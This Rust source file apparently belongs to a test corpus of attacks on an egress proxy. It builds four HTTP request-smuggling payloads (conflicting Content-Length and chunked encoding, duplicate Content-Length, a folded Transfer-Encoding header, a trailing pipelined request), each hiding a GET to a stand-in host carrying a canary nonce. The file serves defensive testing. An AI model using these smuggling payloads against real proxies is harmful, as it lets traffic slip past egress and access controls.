//! Hides a second request in the body of the first.
//!
//! To a canary; the text that must not arrive is the hidden request's.

use crate::corpus::prelude::*;
use crate::corpus::request;

pub(crate) const ATTACK: Attack = Attack::new(
    "proxy-smuggling",
    Family::TalkingOut,
    Guard::EgressStrictParse,
    attempt,
)
.gains("sends a request that the proxy never decided on, hidden in another")
.behind_the_proxy();

fn attempt(stage: &Stage) -> Outcome {
    let host = request::permitted(stage);
    let hidden = format!(
        "GET /{} HTTP/1.1\r\nHost: stranger.test\r\n\r\n",
        stage.nonce
    );
    let start = format!("POST http://{host}/ HTTP/1.1\r\nHost: {host}\r\n");
    let length = hidden.len() + 5;
    let both = format!(
        "{start}Content-Length: {length}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}"
    );
    let twice = format!(
        "{start}Content-Length: 0\r\nContent-Length: {}\r\n\r\n{hidden}",
        hidden.len()
    );
    let folded =
        format!("{start}Content-Length: 0\r\nX: y\r\n Transfer-Encoding: chunked\r\n\r\n{hidden}");
    let after = format!("{start}Content-Length: 0\r\n\r\n{hidden}");
    Outcome::best(
        [both, twice, folded, after]
            .into_iter()
            .map(|text| request::raw(text.as_bytes())),
    )
}
